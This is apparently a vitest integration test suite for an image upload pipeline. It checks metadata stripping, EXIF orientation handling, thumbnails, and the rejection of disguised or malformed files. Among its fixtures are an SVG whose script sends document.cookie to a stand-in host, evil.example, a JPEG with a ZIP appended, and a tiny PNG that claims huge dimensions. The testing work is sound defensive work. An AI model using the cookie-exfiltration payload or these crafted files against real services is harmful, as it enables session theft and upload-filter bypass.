import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { GetCommand } from '@aws-sdk/lib-dynamodb';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { limits } from '#contracts/limits';
import {
  api,
  db,
  describeUpload,
  ELF,
  newOwner,
  type Owner,
  objectExists,
  PDF,
  putToS3,
  sha256Base64,
  TEXT,
  tableName,
  waitForSettled,
} from '../support/harness';
import { deliverToValidator } from '../support/validator';

/**
 * Images are decoded and re-encoded before anyone can download them: what is released is
 * upright, carries no metadata and nothing that followed the image data, and comes with a
 * 400x400 WebP thumbnail. Images the decoder must not or cannot handle are rejected with a reason.
 * Every image here is made in the test with sharp (or by hand, chunk by chunk), and every
 * released image is read back through the API and inspected with sharp.
 */

// ---------------------------------------------------------------------------------------------
// Making images

/** A non-square RGB image: a grey gradient with a red 60x60 block in its top-left corner. */
function markedGradient(width: number, height: number): Buffer {
  const pixels = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const offset = (y * width + x) * 3;
      const grey = 60 + Math.round((x / width) * 80);
      const red = x < 60 && y < 60;
      pixels[offset] = red ? 230 : grey;
      pixels[offset + 1] = red ? 20 : grey;
      pixels[offset + 2] = red ? 20 : grey;
    }
  }
  return pixels;
}

/** Random RGB pixels: compresses badly, so the JPEG is large enough to cut through its scan data. */
const noise = (width: number, height: number) =>
  sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } });

const CAMERA_MAKE = 'SecretCam-7';

/**
 * A 300x200 JPEG (stored sideways) whose EXIF says orientation 6 (rotate 90 degrees clockwise
 * to display) and carries a GPS position: as a phone writes a portrait photo.
 */
const jpegWithGpsAndOrientation = (): Promise<Buffer> =>
  sharp(markedGradient(300, 200), { raw: { width: 300, height: 200, channels: 3 } })
    .jpeg({ quality: 90 })
    .withMetadata({ orientation: 6 })
    .withExifMerge({
      IFD0: { Make: CAMERA_MAKE, Model: 'Pocket' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '51/1 30/1 2600/100',
        GPSLongitudeRef: 'W',
        GPSLongitude: '0/1 7/1 3900/100',
      },
    })
    .toBuffer();

/** EXIF tag of the pointer from IFD0 to the GPS directory. */
const GPS_IFD_POINTER = 0x8825;

/** The tags in IFD0 of an EXIF block as sharp returns it ("Exif\0\0" then a TIFF structure). */
function ifd0Tags(exif: Buffer): number[] {
  const tiff = exif.subarray(exif.indexOf('Exif\0\0', 0, 'latin1') + 6);
  const littleEndian = tiff.toString('latin1', 0, 2) === 'II';
  const u16 = (at: number) => (littleEndian ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number) => (littleEndian ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const ifd0 = u32(4);
  return Array.from({ length: u16(ifd0) }, (_, i) => u16(ifd0 + 2 + i * 12));
}

/** CRC-32 (IEEE, as PNG uses it): Node 20's zlib has no crc32. */
const CRC_TABLE = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of bytes) crc = (CRC_TABLE[(crc ^ byte) & 0xff] as number) ^ (crc >>> 8);
  return (crc ^ 0xffffffff) >>> 0;
}

/** One PNG chunk: length, type, data, CRC over type and data. */
function pngChunk(type: string, data: Uint8Array): Buffer {
  const typeAndData = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(typeAndData));
  return Buffer.concat([length, typeAndData, crc]);
}

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
/** Signature (8 bytes) plus the IHDR chunk (4 + 4 + 13 + 4 bytes). */
const AFTER_IHDR = 8 + 25;

const textChunk = (keyword: string, text: string) => pngChunk('tEXt', Buffer.from(`${keyword}\0${text}`, 'latin1'));

const SECRET_COMMENT = 'meet at the old mill, 51.5N 0.13W';
const SECRET_AUTHOR = 'Jane Q. Whistleblower';

/** A sharp-made PNG with tEXt Comment and Author chunks inserted right after its IHDR. */
async function pngWithTextChunks(): Promise<Buffer> {
  const png = await sharp(markedGradient(120, 80), { raw: { width: 120, height: 80, channels: 3 } })
    .png()
    .toBuffer();
  return Buffer.concat([
    png.subarray(0, AFTER_IHDR),
    textChunk('Comment', SECRET_COMMENT),
    textChunk('Author', SECRET_AUTHOR),
    png.subarray(AFTER_IHDR),
  ]);
}

/**
 * A few hundred bytes that claim a width x height RGB canvas: a valid signature and IHDR, a
 * tiny IDAT (the start of the first row) and IEND.
 */
function pngClaiming(width: number, height: number): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit, truecolour, deflate, adaptive filtering, no interlace
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.alloc(64))),
    pngChunk('IEND', new Uint8Array()),
  ]);
}

/** A three-frame 64x48 animated GIF (red, green, blue). */
async function animatedGif(): Promise<Buffer> {
  const frame = (background: string) =>
    sharp({ create: { width: 64, height: 48, channels: 3, background } })
      .png()
      .toBuffer();
  const frames = await Promise.all([frame('#e00000'), frame('#00c000'), frame('#0000e0')]);
  return sharp(frames, { join: { animated: true } })
    .gif({ delay: [200, 200, 200], loop: 0 })
    .toBuffer();
}

/** The start of a ZIP archive's local file header. */
const ZIP_MAGIC = Buffer.from('PK\x03\x04', 'latin1');

/** A small ZIP-like tail: a local file header for "payload.exe" and some bytes. */
const zipTail = (): Buffer =>
  Buffer.concat([ZIP_MAGIC, Buffer.alloc(26), Buffer.from('payload.exe', 'latin1'), randomBytes(256)]);

const JPEG_EOI = Buffer.from([0xff, 0xd9]);

const SVG_WITH_SCRIPT = TEXT(
  '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
    '<rect width="100" height="100" fill="red"/></svg>',
);

const contains = (bytes: Uint8Array, marker: string | Uint8Array): boolean =>
  Buffer.from(bytes).includes(typeof marker === 'string' ? Buffer.from(marker, 'latin1') : Buffer.from(marker));

// ---------------------------------------------------------------------------------------------
// Going through the API

/** Presigns and PUTs bytes as the owner; the emulator's event then reaches the validator. */
async function upload(owner: Owner, fileName: string, contentType: string, bytes: Uint8Array): Promise<string> {
  const presign = await api('POST', '/api/uploads', {
    token: owner.idToken,
    body: describeUpload(fileName, contentType, bytes),
  });
  expect(presign.status).toBe(201);
  const put = await putToS3(presign.body, bytes);
  expect(put.status).toBe(200);
  return presign.body.uploadId as string;
}

/** Uploads and waits for the validator's verdict: the file as the owner's list shows it. */
async function uploadAndSettle(owner: Owner, fileName: string, contentType: string, bytes: Uint8Array) {
  const fileId = await upload(owner, fileName, contentType, bytes);
  return waitForSettled(owner, fileId);
}

/** The released bytes, fetched through a download URL the API signed. */
async function download(owner: Owner, fileId: string): Promise<Buffer> {
  const signed = await api('GET', `/api/files/${fileId}/download`, { token: owner.idToken });
  expect(signed.status).toBe(200);
  const fetched = await fetch(signed.body.url);
  expect(fetched.status).toBe(200);
  return Buffer.from(await fetched.arrayBuffer());
}

const thumbObject = (owner: Owner, fileId: string) => `thumbs/${owner.sub}/${fileId}.webp`;
const releasedObject = (owner: Owner, fileId: string) => `files/${owner.sub}/${fileId}`;
const incomingObject = (owner: Owner, fileId: string) => `incoming/${owner.sub}/${fileId}`;

async function storedRecord(owner: Owner, fileId: string): Promise<Record<string, unknown> | undefined> {
  const { Item } = await db.send(
    new GetCommand({ TableName: tableName('FILES_TABLE'), Key: { ownerId: owner.sub, fileId }, ConsistentRead: true }),
  );
  return Item;
}

/** Polls until a key is gone (the validator removes the incoming object after recording the outcome). */
async function existsAfterSettling(key: string, timeoutMs = 10_000): Promise<boolean> {
  const deadline = Date.now() + timeoutMs;
  while (await objectExists(key)) {
    if (Date.now() > deadline) return true;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return false;
}

const deliver = (key: string, size: number): Promise<void> => deliverToValidator(key, size, 'image-pipeline-test');

// ---------------------------------------------------------------------------------------------

describe('image pipeline', () => {
  describe('releases cleaned images', () => {
    it('releases a JPEG upright, without its EXIF orientation, GPS position or camera details', async () => {
      // prepare
      const owner = await newOwner();
      const jpeg = await jpegWithGpsAndOrientation();
      const input = await sharp(jpeg).metadata();
      expect(input).toMatchObject({ format: 'jpeg', width: 300, height: 200, orientation: 6 });
      expect(input.exif).toBeDefined();
      expect(ifd0Tags(input.exif as Buffer)).toContain(GPS_IFD_POINTER);
      expect(contains(jpeg, 'Exif\0\0')).toBe(true);
      expect(contains(jpeg, CAMERA_MAKE)).toBe(true);

      // act
      const file = await uploadAndSettle(owner, 'portrait.jpg', 'image/jpeg', jpeg);
      const released = await download(owner, file.fileId);

      // assess
      expect(file.status).toBe('clean');
      const output = await sharp(released).metadata();
      expect(output.format).toBe('jpeg');
      expect(output.exif).toBeUndefined();
      expect(output.orientation ?? 1).toBe(1);
      expect([output.width, output.height]).toEqual([200, 300]);
      expect([file.width, file.height]).toEqual([200, 300]);
      expect(file.size).toBe(released.length);
      expect(contains(released, 'Exif\0\0')).toBe(false);
      expect(contains(released, 'GPS')).toBe(false);
      expect(contains(released, CAMERA_MAKE)).toBe(false);
      // rotated clockwise: the red block stored top-left is now shown top-right
      const { data, info } = await sharp(released).raw().toBuffer({ resolveWithObject: true });
      const pixel = (x: number, y: number) => [
        ...data.subarray((y * info.width + x) * 3, (y * info.width + x) * 3 + 3),
      ];
      const [r, g, b] = pixel(170, 30) as [number, number, number];
      expect(r).toBeGreaterThan(180);
      expect(Math.max(g, b)).toBeLessThan(80);
      const [r2, g2] = pixel(30, 30) as [number, number, number];
      expect(Math.abs(r2 - g2)).toBeLessThan(30);
    });

    it('releases a PNG without its tEXt chunks', async () => {
      // prepare
      const owner = await newOwner();
      const png = await pngWithTextChunks();
      const input = await sharp(png).metadata();
      expect(input).toMatchObject({ format: 'png', width: 120, height: 80 });
      expect(input.comments).toEqual(
        expect.arrayContaining([
          { keyword: 'Comment', text: SECRET_COMMENT },
          { keyword: 'Author', text: SECRET_AUTHOR },
        ]),
      );

      // act
      const file = await uploadAndSettle(owner, 'scan.png', 'image/png', png);
      const released = await download(owner, file.fileId);

      // assess
      expect(file.status).toBe('clean');
      const output = await sharp(released).metadata();
      expect(output).toMatchObject({ format: 'png', width: 120, height: 80 });
      expect(output.comments ?? []).toEqual([]);
      expect(contains(released, 'tEXt')).toBe(false);
      expect(contains(released, 'zTXt')).toBe(false);
      expect(contains(released, 'iTXt')).toBe(false);
      expect(contains(released, SECRET_COMMENT)).toBe(false);
      expect(contains(released, SECRET_AUTHOR)).toBe(false);
      expect(file.size).toBe(released.length);
    });

    it('releases an animated GIF with all its frames, and makes its thumbnail', async () => {
      // prepare
      const owner = await newOwner();
      const gif = await animatedGif();
      const input = await sharp(gif).metadata();
      expect(input.format).toBe('gif');
      expect(input.pages).toBeGreaterThanOrEqual(2);

      // act
      const file = await uploadAndSettle(owner, 'spinner.gif', 'image/gif', gif);
      const released = await download(owner, file.fileId);

      // assess
      expect(file.status).toBe('clean');
      const output = await sharp(released).metadata();
      expect(output.format).toBe('gif');
      expect(output.pages).toBe(input.pages);
      expect(output.width).toBe(64);
      expect([file.width, file.height]).toEqual([64, 48]);
      expect(file.size).toBe(released.length);
      expect(await objectExists(thumbObject(owner, file.fileId))).toBe(true);
      const thumbnail = await api('GET', `/api/files/${file.fileId}/thumbnail`, { token: owner.idToken });
      expect(thumbnail.status).toBe(200);
    });

    it('releases a WebP image and makes its thumbnail', async () => {
      // prepare
      const owner = await newOwner();
      const webp = await sharp(markedGradient(500, 300), { raw: { width: 500, height: 300, channels: 3 } })
        .webp()
        .toBuffer();
      expect(await sharp(webp).metadata()).toMatchObject({ format: 'webp', width: 500, height: 300 });

      // act
      const file = await uploadAndSettle(owner, 'banner.webp', 'image/webp', webp);
      const released = await download(owner, file.fileId);

      // assess
      expect(file.status).toBe('clean');
      expect(await sharp(released).metadata()).toMatchObject({ format: 'webp', width: 500, height: 300 });
      expect([file.width, file.height]).toEqual([500, 300]);
      expect(file.size).toBe(released.length);
      expect(await objectExists(thumbObject(owner, file.fileId))).toBe(true);
      const thumbnail = await api('GET', `/api/files/${file.fileId}/thumbnail`, { token: owner.idToken });
      expect(thumbnail.status).toBe(200);
    });

    it('releases a JPEG with a ZIP appended as the JPEG alone, ending at its EOI marker', async () => {
      // prepare
      const owner = await newOwner();
      const jpeg = await noise(200, 150).jpeg().toBuffer();
      const polyglot = Buffer.concat([jpeg, zipTail()]);
      expect(contains(polyglot, ZIP_MAGIC)).toBe(true);
      expect((await sharp(polyglot).metadata()).format).toBe('jpeg');

      // act
      const file = await uploadAndSettle(owner, 'holiday.jpg', 'image/jpeg', polyglot);
      const released = await download(owner, file.fileId);

      // assess
      expect(file.status).toBe('clean');
      expect(contains(released, ZIP_MAGIC)).toBe(false);
      expect(contains(released, 'payload.exe')).toBe(false);
      expect(released.subarray(-2)).toEqual(JPEG_EOI);
      expect(await sharp(released).metadata()).toMatchObject({ format: 'jpeg', width: 200, height: 150 });
      expect(file.size).toBe(released.length);
    });
  });

  describe('rejects images it must not or cannot decode', () => {
    // 100 megapixels is over docdrop's limit; 900 megapixels is also over sharp's own default
    // limit (0x3FFF x 0x3FFF), which a header check must not trip over.
    it.each([
      [10_000, 10_000],
      [30_000, 30_000],
    ])(
      'rejects a PNG of a few hundred bytes that claims %i x %i pixels, naming the megapixel limit, and makes no thumbnail',
      async (width, height) => {
        // prepare
        const owner = await newOwner();
        const png = pngClaiming(width, height);
        expect(png.length).toBeLessThan(1000);
        expect(await sharp(png, { limitInputPixels: false }).metadata()).toMatchObject({
          format: 'png',
          width,
          height,
        });

        // act
        const file = await uploadAndSettle(owner, 'huge.png', 'image/png', png);

        // assess
        expect(file.status).toBe('rejected');
        expect(file.reason).toMatch(new RegExp(`limit is ${limits.maxImagePixels / 1e6} megapixels`));
        expect(await existsAfterSettling(incomingObject(owner, file.fileId))).toBe(false);
        expect(await objectExists(releasedObject(owner, file.fileId))).toBe(false);
        expect(await objectExists(thumbObject(owner, file.fileId))).toBe(false);
        const downloadAnswer = await api('GET', `/api/files/${file.fileId}/download`, { token: owner.idToken });
        expect(downloadAnswer.status).toBe(409);
        expect(downloadAnswer.body.error.code).toBe('rejected');
        const thumbnail = await api('GET', `/api/files/${file.fileId}/thumbnail`, { token: owner.idToken });
        expect(thumbnail.status).toBe(404);
      },
    );

    it('rejects a truncated JPEG as damaged', async () => {
      // prepare: the first 60% of a real JPEG, cut through its scan data
      const owner = await newOwner();
      const jpeg = await noise(300, 200).jpeg().toBuffer();
      const truncated = jpeg.subarray(0, Math.floor(jpeg.length * 0.6));
      expect(await sharp(truncated).metadata()).toMatchObject({ format: 'jpeg', width: 300, height: 200 });

      // act
      const file = await uploadAndSettle(owner, 'cut.jpg', 'image/jpeg', truncated);

      // assess
      expect(file.status).toBe('rejected');
      expect(file.reason).toMatch(/damaged|truncated/i);
      expect(await objectExists(releasedObject(owner, file.fileId))).toBe(false);
      expect(await objectExists(thumbObject(owner, file.fileId))).toBe(false);
      expect((await api('GET', `/api/files/${file.fileId}/download`, { token: owner.idToken })).status).toBe(409);
    });

    it('refuses to sign an upload declared as an SVG, saying SVG can carry script', async () => {
      // prepare
      const owner = await newOwner();

      // act
      const presign = await api('POST', '/api/uploads', {
        token: owner.idToken,
        body: describeUpload('logo.svg', 'image/svg+xml', SVG_WITH_SCRIPT),
      });

      // assess
      expect(presign.status).toBe(415);
      expect(presign.body.error.code).toBe('type_refused');
      expect(presign.body.error.message).toMatch(/script/i);
      expect(presign.body.url).toBeUndefined();
    });

    it('rejects an SVG with a script declared as image/png', async () => {
      // prepare
      const owner = await newOwner();

      // act
      const file = await uploadAndSettle(owner, 'logo.png', 'image/png', SVG_WITH_SCRIPT);

      // assess
      expect(file.status).toBe('rejected');
      expect(file.reason).toMatch(/^not a real PNG image$/);
      expect(await objectExists(releasedObject(owner, file.fileId))).toBe(false);
      expect((await api('GET', `/api/files/${file.fileId}/download`, { token: owner.idToken })).status).toBe(409);
    });

    it('rejects an ELF executable named photo.jpg and declared image/jpeg, and never lets it be downloaded', async () => {
      // prepare
      const owner = await newOwner();

      // act
      const file = await uploadAndSettle(owner, 'photo.jpg', 'image/jpeg', ELF);

      // assess
      expect(file.status).toBe('rejected');
      expect(file.reason).toMatch(/^it is really a \.elf file, not a JPEG image$/);
      expect(await existsAfterSettling(incomingObject(owner, file.fileId))).toBe(false);
      expect(await objectExists(releasedObject(owner, file.fileId))).toBe(false);
      expect(await objectExists(thumbObject(owner, file.fileId))).toBe(false);
      const downloadAnswer = await api('GET', `/api/files/${file.fileId}/download`, { token: owner.idToken });
      expect(downloadAnswer.status).toBe(409);
      expect(downloadAnswer.body.url).toBeUndefined();
    });

    it('refuses to sign an upload declared as HEIC, saying why', async () => {
      // prepare
      const owner = await newOwner();
      const bytes = randomBytes(2048);

      // act
      const presign = await api('POST', '/api/uploads', {
        token: owner.idToken,
        body: describeUpload('IMG_0001.HEIC', 'image/heic', bytes),
      });

      // assess
      expect(presign.status).toBe(415);
      expect(presign.body.error.code).toBe('type_refused');
      expect(presign.body.error.message).toMatch(/HEIC/);
      expect(presign.body.error.message).toMatch(/JPEG/);
      expect(presign.body.url).toBeUndefined();
    });
  });

  describe('thumbnails', () => {
    it('signs a URL for a clean image whose thumbnail is a 400x400 WebP', async () => {
      // prepare
      const owner = await newOwner();
      const jpeg = await noise(640, 480).jpeg().toBuffer();
      const file = await uploadAndSettle(owner, 'photo.jpg', 'image/jpeg', jpeg);
      expect(file.status).toBe('clean');

      // act
      const answer = await api('GET', `/api/files/${file.fileId}/thumbnail`, { token: owner.idToken });

      // assess
      expect(answer.status).toBe(200);
      expect(answer.body).toEqual({ url: expect.any(String), expiresAt: expect.any(String) });
      expect(new Date(answer.body.expiresAt).getTime()).toBeGreaterThan(Date.now());
      const fetched = await fetch(answer.body.url);
      expect(fetched.status).toBe(200);
      const thumbnail = await sharp(Buffer.from(await fetched.arrayBuffer())).metadata();
      expect(thumbnail).toMatchObject({ format: 'webp', width: 400, height: 400 });
    });

    it('answers 404 no_thumbnail for a clean PDF', async () => {
      // prepare
      const owner = await newOwner();
      const file = await uploadAndSettle(owner, 'Statement.pdf', 'application/pdf', PDF);
      expect(file.status).toBe('clean');

      // act
      const answer = await api('GET', `/api/files/${file.fileId}/thumbnail`, { token: owner.idToken });

      // assess
      expect(answer.status).toBe(404);
      expect(answer.body.error.code).toBe('no_thumbnail');
      expect(answer.body.url).toBeUndefined();
    });

    it("answers 404 for another owner's image", async () => {
      // prepare
      const owner = await newOwner();
      const stranger = await newOwner();
      const png = await sharp(markedGradient(120, 80), { raw: { width: 120, height: 80, channels: 3 } })
        .png()
        .toBuffer();
      const file = await uploadAndSettle(owner, 'private.png', 'image/png', png);
      expect(file.status).toBe('clean');

      // act
      const answer = await api('GET', `/api/files/${file.fileId}/thumbnail`, { token: stranger.idToken });

      // assess
      expect(answer.status).toBe(404);
      expect(answer.body.url).toBeUndefined();
    });

    it('removes the thumbnail when the image is deleted', async () => {
      // prepare
      const owner = await newOwner();
      const png = await sharp(markedGradient(120, 80), { raw: { width: 120, height: 80, channels: 3 } })
        .png()
        .toBuffer();
      const file = await uploadAndSettle(owner, 'gone.png', 'image/png', png);
      expect(file.status).toBe('clean');
      expect(await objectExists(thumbObject(owner, file.fileId))).toBe(true);

      // act
      const removed = await api('DELETE', `/api/files/${file.fileId}`, { token: owner.idToken });

      // assess
      expect(removed.status).toBe(204);
      expect(await objectExists(thumbObject(owner, file.fileId))).toBe(false);
      expect(await objectExists(releasedObject(owner, file.fileId))).toBe(false);
      const answer = await api('GET', `/api/files/${file.fileId}/thumbnail`, { token: owner.idToken });
      expect(answer.status).toBe(404);
    });
  });

  it('settles an image once, to one cleaned result, when its event is delivered twice more at the same time', async () => {
    // prepare
    const owner = await newOwner();
    const jpeg = await jpegWithGpsAndOrientation();
    const fileId = await upload(owner, 'twice.jpg', 'image/jpeg', jpeg);
    const key = incomingObject(owner, fileId);

    // act: two more deliveries racing each other and the emulator's own (a delivery that loses
    // the race may fail; Lambda would retry it: what counts is the state)
    await Promise.allSettled([deliver(key, jpeg.length), deliver(key, jpeg.length)]);
    const file = await waitForSettled(owner, fileId);
    expect(await existsAfterSettling(key)).toBe(false);

    // assess
    expect(file.status).toBe('clean');
    const released = await download(owner, fileId);
    const record = await storedRecord(owner, fileId);
    expect(record).toMatchObject({
      status: 'clean',
      size: released.length,
      sha256: sha256Base64(released),
      width: 200,
      height: 300,
      thumbnail: true,
    });
    expect(record?.sha256).not.toBe(sha256Base64(jpeg));
    expect((await sharp(released).metadata()).exif).toBeUndefined();
    expect(await objectExists(thumbObject(owner, fileId))).toBe(true);
    const list = await api('GET', '/api/files?limit=100', { token: owner.idToken });
    expect(list.body.items.map((item: { fileId: string }) => item.fileId)).toEqual([fileId]);
  });
});
